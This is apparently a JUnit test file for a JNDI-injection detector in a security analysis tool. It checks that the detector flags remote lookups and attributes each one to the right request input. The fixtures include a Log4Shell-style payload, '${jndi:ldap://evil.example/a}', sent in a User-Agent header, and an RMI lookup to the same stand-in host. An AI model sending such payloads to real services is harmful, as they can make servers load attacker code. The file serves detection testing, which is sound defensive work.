package dev.pincer.correlator.jndi;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;

import dev.pincer.correlator.analyzer.Finding;
import dev.pincer.correlator.sink.SinkCall;
import dev.pincer.correlator.sink.SinkKind;
import dev.pincer.inspection.input.Input;
import dev.pincer.inspection.input.InputSource;
import dev.pincer.inspection.input.RequestInputs;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/**
 * A remote JNDI name is a finding whatever the inputs; the finding names the input only when it
 * occurs in the name, so an event says "from header:User-Agent" exactly when that is true.
 */
class JndiInputTest {
    private final JndiAnalyzer analyzer = new JndiAnalyzer();

    @Test
    void attachesTheInputTheNameCameFrom() {
        Input ua = Input.plain(InputSource.HEADER, "User-Agent", "${jndi:ldap://evil.example/a}");
        Input other = Input.plain(InputSource.QUERY, "q", "shoes");
        Finding f = analyzer.analyze(call("ldap://evil.example/a"), new RequestInputs(List.of(other, ua), null, false));
        assertEquals("header:User-Agent", f.input().where());
    }

    @Test
    void noInputWhenNoneOccurs() {
        Input other = Input.plain(InputSource.QUERY, "q", "shoes");
        Finding f = analyzer.analyze(call("rmi://evil.example/x"), new RequestInputs(List.of(other), null, false));
        assertNull(f.input());
        assertEquals("jndi_injection", f.attackClass().label());
    }

    private static SinkCall call(String name) {
        return new SinkCall("", SinkKind.JNDI, List.of(name), Map.of(), "");
    }
}
